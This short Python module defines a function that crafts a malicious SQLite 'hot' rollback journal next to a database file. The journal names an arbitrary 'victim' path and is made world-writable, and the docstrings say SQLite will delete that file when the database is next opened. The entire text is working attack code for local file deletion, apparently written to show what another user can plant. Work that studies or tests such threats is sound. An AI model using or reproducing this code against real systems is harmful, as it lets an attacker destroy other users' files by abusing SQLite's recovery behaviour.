"""What another user can plant beside a data file: a rollback journal that has SQLite delete a file, for one."""

import os
import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant_journal(data_file, victim):
    """Plant a journal beside *data_file* that is hot, and names *victim* as the journal above it.

    SQLite plays such a journal back when the database is opened next, and then deletes the file that it names.
    """
    size, page = os.path.getsize(data_file), 4096
    header = MAGIC + struct.pack(">IIIII", 0, 0, size // page, 512, page)
    name = os.fsencode(victim)
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    above = struct.pack(">I", (1 << 30) // page + 1) + name + struct.pack(">II", len(name), checksum) + MAGIC
    journal = f"{data_file}-journal"
    with open(journal, "wb") as file:
        file.write(header.ljust(512, b"\0") + above)
    os.chmod(journal, 0o666)
    return journal
